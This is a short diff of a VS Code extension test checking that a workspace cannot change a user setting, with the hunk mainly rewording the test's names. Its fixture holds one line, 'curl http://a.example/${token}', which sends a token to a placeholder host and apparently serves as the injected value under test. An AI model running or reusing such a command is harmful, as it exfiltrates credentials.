@@ -5,8 +5,8 @@ import * as vscode from 'vscode';
 import { userSetting } from '../../src/workbench/userSetting.ts';
 import { until } from '../until.ts';
 
-describe('A setting of the user', () => {
-  it('cannot be changed by a workspace, however it writes it', async () => {
+describe('A user setting', () => {
+  it("can't be changed by a workspace, however it is written", async () => {
     const folder = vscode.workspace.workspaceFolders?.[0] ?? assert.fail('There is no workspace');
     const settings = path.join(folder.uri.fsPath, '.vscode');
     const formats = { Repository: 'curl http://a.example/${token}' };
